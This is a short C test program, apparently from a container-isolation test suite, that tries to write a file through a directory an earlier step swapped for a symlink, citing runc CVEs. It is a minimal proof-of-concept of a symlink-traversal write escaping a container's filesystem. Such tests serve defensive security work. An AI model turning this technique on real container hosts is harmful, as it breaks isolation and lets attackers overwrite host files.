/* SPDX-License-Identifier: Apache-2.0 */
/* Writes below a directory that an earlier job replaced by a link (runc's CVE-2019-19921, CVE-2023-28642, CVE-2026-41579). */
#include "../attack.h"

int main(int argc, char **argv) {
  char path[512];
  snprintf(path, sizeof path, "%s/outside.txt", argument(argc, argv, 1));
  int fd = (int)step(open(path, O_WRONLY | O_TRUNC), path);
  step(write(fd, "changed\n", 8), "write");
  worked("wrote through the link");
}
